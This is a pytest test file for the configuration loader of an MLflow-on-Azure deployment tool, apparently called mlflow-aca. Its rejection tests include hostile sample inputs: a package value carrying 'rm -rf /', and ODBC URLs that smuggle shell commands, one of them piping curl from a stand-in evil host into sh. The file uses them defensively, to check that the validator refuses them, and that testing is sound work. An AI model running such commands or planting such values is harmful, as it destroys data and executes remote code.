from pathlib import Path

import pytest

from mlflow_aca.config import Settings, load_settings
from mlflow_aca.errors import ConfigError
from tests.values import OTHER_SUBSCRIPTION, SUBSCRIPTION

MINIMAL = 'name = "mlflow"\nlocation = "westeurope"\n'


def write(tmp_path: Path, text: str, name: str = "mlflow-aca.toml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def load(path=None, env=None, **overrides) -> Settings:
    return load_settings(path, environ=env or {}, overrides=overrides)


def test_file_then_environment_then_flags(tmp_path):
    path = write(tmp_path, MINIMAL + 'memory = "2Gi"\nmax_replicas = 2\nmin_replicas = 1\n')
    assert load(path).max_replicas == 2
    assert load(path, env={"MLFLOW_ACA_MAX_REPLICAS": "3"}).max_replicas == 3
    settings = load(path, env={"MLFLOW_ACA_MAX_REPLICAS": "3"}, max_replicas="4")
    assert settings.max_replicas == 4
    assert settings.memory == "2Gi" and settings.name == "mlflow"


def test_default_file_is_optional_and_read_from_the_working_directory(tmp_path):
    with pytest.raises(ConfigError, match="No config file: looked for .*mlflow-aca.toml"):
        load()
    write(tmp_path, MINIMAL)  # the fixture made tmp_path the working directory
    assert load().location == "westeurope"


def test_named_file_must_exist(tmp_path):
    with pytest.raises(ConfigError, match="does not exist") as raised:
        load(tmp_path / "nope.toml")
    assert raised.value.exit_code == 1 and "init" in raised.value.hint


def test_config_path_from_environment(tmp_path):
    path = write(tmp_path, MINIMAL, "elsewhere.toml")
    assert load(env={"MLFLOW_ACA_CONFIG": str(path)}).name == "mlflow"


def test_subscription_falls_back_to_azure_subscription_id(tmp_path):
    path = write(tmp_path, MINIMAL)
    assert load(path, env={"AZURE_SUBSCRIPTION_ID": SUBSCRIPTION}).subscription_id == SUBSCRIPTION
    with_file = write(tmp_path, MINIMAL + f'subscription_id = "{OTHER_SUBSCRIPTION}"\n', "b.toml")
    # The file names the deployment's subscription; a general shell variable does not override it.
    assert load(with_file, env={"AZURE_SUBSCRIPTION_ID": SUBSCRIPTION}).subscription_id == OTHER_SUBSCRIPTION
    assert load(with_file, env={"MLFLOW_ACA_SUBSCRIPTION_ID": SUBSCRIPTION}).subscription_id == SUBSCRIPTION


def test_missing_subscription_is_reported_when_names_are_needed(tmp_path):
    settings = load(write(tmp_path, MINIMAL))
    with pytest.raises(ConfigError, match="No Azure subscription") as raised:
        _ = settings.names
    assert "AZURE_SUBSCRIPTION_ID" in raised.value.hint


@pytest.mark.parametrize("source", ["file", "env", "flag"])
def test_unknown_key_is_named(tmp_path, source):
    if source == "file":
        call = lambda: load(write(tmp_path, MINIMAL + "memroy = '4Gi'\n"))  # noqa: E731
    elif source == "env":
        call = lambda: load(write(tmp_path, MINIMAL), env={"MLFLOW_ACA_MEMROY": "4Gi"})  # noqa: E731
    else:
        call = lambda: load(write(tmp_path, MINIMAL), memroy="4Gi")  # noqa: E731
    with pytest.raises(ConfigError) as raised:
        call()
    assert "memroy" in raised.value.message
    assert "memory" in raised.value.hint.lower()  # the closest key, not a list of all


def test_malformed_toml_reports_line_and_column(tmp_path):
    path = write(tmp_path, 'name = "mlflow"\nlocation = westeurope\n')
    with pytest.raises(ConfigError) as raised:
        load(path)
    assert "line 2" in raised.value.message and "column" in raised.value.message
    assert str(path) in raised.value.message


@pytest.mark.parametrize("content", [b"\xff\xfe not utf-8", None])
def test_unreadable_config_file(tmp_path, content):
    path = tmp_path / "mlflow-aca.toml"
    if content is None:
        path.mkdir()  # a directory where the file should be (root ignores permission bits)
    else:
        path.write_bytes(content)
    with pytest.raises(ConfigError, match="Cannot read config file"):
        load(path)


@pytest.mark.parametrize(("line", "key", "fragment"), [
    ("max_replicas = 'many'", "max_replicas", "valid integer"),
    ("install_odbc_driver = 'sometimes'", "install_odbc_driver", "valid boolean"),
    ("sql_auth = 'kerberos'", "sql_auth", "'entra' or 'password'"),
    ("cloud = 'AzureGermanCloud'", "cloud", "AzureCloud"),
    ("allowed_ips = ['10.0.0.0/33']", "allowed_ips", "CIDR"),
    ("operator_ip = 'my-laptop'", "operator_ip", "IPv4"),
    ("arm_endpoint = 'http://insecure.example'", "arm_endpoint", "https://"),
    ("mlflow_version = 'latest'", "mlflow_version", "exact release"),
    ("base_image = 'python:latest'", "base_image", "pinned"),
    ("extra_packages = ['boto3; rm -rf /']", "extra_packages", "plain pip requirement"),
    ("sql_admin_login = 'sa'", "sql_admin_login", "reserved"),
    ("sql_auto_pause_minutes = 5", "sql_auto_pause_minutes", "15-10080"),
    ("log_retention_days = 7", "log_retention_days", "greater than or equal to 30"),
    ("tags = { managed-by = 'me' }", "tags", "set by the tool"),
    ("subscription_id = 'my-sub'", "subscription_id", "GUID"),
])
def test_wrong_values_name_key_value_and_rule(tmp_path, line, key, fragment):
    with pytest.raises(ConfigError) as raised:
        load(write(tmp_path, MINIMAL + line + "\n"))
    assert raised.value.exit_code == 1
    assert key in raised.value.message and fragment in raised.value.message


def test_invalid_name_override_names_rule_and_example(tmp_path):
    with pytest.raises(ConfigError) as raised:
        load(write(tmp_path, MINIMAL + "storage_account_name = 'My_Storage'\n"))
    message = raised.value.message
    assert "storage_account_name" in message and "'My_Storage'" in message
    assert "lowercase letters and digits" in message and "Example: 'stmlflow1a2b3c'" in message


def test_cpu_and_memory_must_pair(tmp_path):
    with pytest.raises(ConfigError, match=r"memory = 2 x cpu, i.e. '4Gi'"):
        load(write(tmp_path, MINIMAL + "cpu = 2.0\n"))
    assert load(write(tmp_path, MINIMAL + "cpu = 2.0\nmemory = '4Gi'\n")).memory_gib == 4


def test_lists_and_tables_from_environment_and_flags(tmp_path):
    path = write(tmp_path, MINIMAL)
    settings = load(path, env={"MLFLOW_ACA_ALLOWED_IPS": "203.0.113.0/24, 198.51.100.7",
                               "MLFLOW_ACA_TAGS": "team=ml,cost-center=42"})
    assert settings.allowed_ips == ["203.0.113.0/24", "198.51.100.7"]
    assert settings.tags == {"team": "ml", "cost-center": "42"}
    assert load(path, extra_packages="boto3==1.35.0").extra_packages == ["boto3==1.35.0"]
    assert load(path, env={"MLFLOW_ACA_OPERATOR_IP": ""}).operator_ip is None


def test_names_derive_and_override(tmp_path):
    path = write(tmp_path, MINIMAL + "registry_name = 'teamregistry'\n")
    names = load(path, env={"AZURE_SUBSCRIPTION_ID": SUBSCRIPTION}).names
    assert names.registry == "teamregistry"
    assert names.resource_group == "rg-mlflow"
    assert names.app == "mlflow" and names.environment == "mlflow-env"
    assert names.storage_account.startswith("stmlflow") and len(names.storage_account) == 14
    # Same inputs, same names: a rerun finds the same resources.
    assert load(path, env={"AZURE_SUBSCRIPTION_ID": SUBSCRIPTION}).names == names


def test_workers_and_job_execution_follow_memory(tmp_path):
    path = write(tmp_path, MINIMAL)
    small = load(path)
    assert (small.server_workers, small.job_execution_enabled) == (1, False)
    big = load(path, cpu="4.0", memory="8Gi")
    assert (big.server_workers, big.job_execution_enabled) == (4, True)
    pinned = load(path, workers="2", job_execution="true")
    assert (pinned.server_workers, pinned.job_execution_enabled) == (2, True)


def test_tags_always_carry_the_tool_tags(tmp_path):
    settings = load(write(tmp_path, MINIMAL + "tags = { team = 'ml' }\n"))
    assert settings.tags_for_resources == {
        "team": "ml", "managed-by": "mlflow-aca", "mlflow-aca-deployment": "mlflow"}


# -- the ODBC repository: both URLs end up on a RUN line and in the image's apt sources -------------
@pytest.mark.parametrize("key", ["odbc_repository_url", "odbc_key_url"])
@pytest.mark.parametrize("value", [
    "https://mirror.example/ms\"; curl evil.example | sh; echo \"",  # quotes and a command
    "https://mirror.example/$(id)",
    "https://mirror.example/`id`",
    "https://mirror.example/a;b",
    "https://mirror.example/a b",
    "https://mirror.example/a\nb",
    "https://mirror.example/a'b",
    "https://mirror.example/a|b",
    "https://mirror.example/a&b",
    "https://user:secret@mirror.example/debian/12/prod",  # credentials would stay in the image
    "https://mirror.example/debian?token=abc",
    "ftp://mirror.example/debian/12/prod",
    "packages.microsoft.com/debian/12/prod",
    "https://",
])
def test_odbc_urls_must_be_plain_http_urls(tmp_path, key, value):
    with pytest.raises(ConfigError) as raised:
        load(write(tmp_path, MINIMAL), **{key: value})
    message = raised.value.message
    assert key in message and "plain http(s) URL" in message


@pytest.mark.parametrize("value", [
    "https://packages.microsoft.com/debian/12/prod",
    "http://172.17.0.1:22639/debian/12/prod",
    "https://artifactory.corp.example:8443/artifactory/ms-debian/debian/12/prod/",
    "http://mirror.example",
])
def test_odbc_urls_accept_mirrors(tmp_path, value):
    settings = load(write(tmp_path, MINIMAL + f"odbc_repository_url = '{value}'\n"),
                    env={"MLFLOW_ACA_ODBC_KEY_URL": value})
    assert settings.odbc_repository_url == value and settings.odbc_key_url == value


def test_odbc_urls_default_to_microsoft(tmp_path):
    settings = load(write(tmp_path, MINIMAL))
    assert settings.odbc_repository_url == "https://packages.microsoft.com/debian/12/prod"
    assert settings.odbc_key_url == "https://packages.microsoft.com/keys/microsoft.asc"
